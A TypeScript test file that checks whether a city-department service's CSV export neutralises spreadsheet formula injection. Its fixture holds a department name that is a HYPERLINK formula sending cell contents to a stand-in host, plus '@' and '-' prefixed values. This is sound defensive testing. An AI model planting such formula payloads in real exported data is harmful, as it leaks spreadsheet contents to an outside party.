/** A CSV that someone opens in a spreadsheet runs nothing, whatever a unit is called, and its numbers stay numbers. */
import { afterAll, beforeAll, expect, it } from 'vitest';
import { cityEvents, openSmallCity, type SmallCity } from './small-city.ts';

const FORMULA = '=HYPERLINK("http://x.example/?"&A1)';

let city: SmallCity;
beforeAll(async () => {
  city = await openSmallCity({
    directory: {
      'departments.csv': `department,name,centre,valid_from
plan,"${FORMULA.replaceAll('"', '""')}",hall,2020-01-01
food,@市监局,hall,2020-01-01
idle,史志办,hall,2020-01-01
`,
    },
    events: cityEvents().map((event) => ({ ...event, case_id: `-${event['case_id']}` })),
  });
});
afterAll(() => city?.close());

const read = (path: string, headers: Record<string, string> = {}) =>
  city.server.inject({ url: `/api/v1${path}`, headers });

it('has text that would be a formula behind a single quote, and negative numbers bare', async () => {
  const csv = (await read('/overdue?format=csv')).body;
  expect(csv).toContain(`,"plan","'${FORMULA.replaceAll('"', '""')}","plan-1",`);
  expect(csv).toContain(`,"food","'@市监局","food-1",`);
  expect(csv).toContain(`"'-open-late","yellow",`);
  expect(csv).not.toMatch(/(^|,)"[=+\-@]/m);
  // Two days late.
  expect(csv).toMatch(/"'-open-late".*,5,7,-2,/);
});

it('has the text as it is in JSON', async () => {
  const { rows } = (await read('/overdue')).json();
  expect(rows.map(({ department_name }: { department_name: string }) => department_name)).toContain(FORMULA);
  expect(rows.map(({ case_id }: { case_id: string }) => case_id)).toContain('-open-late');
});
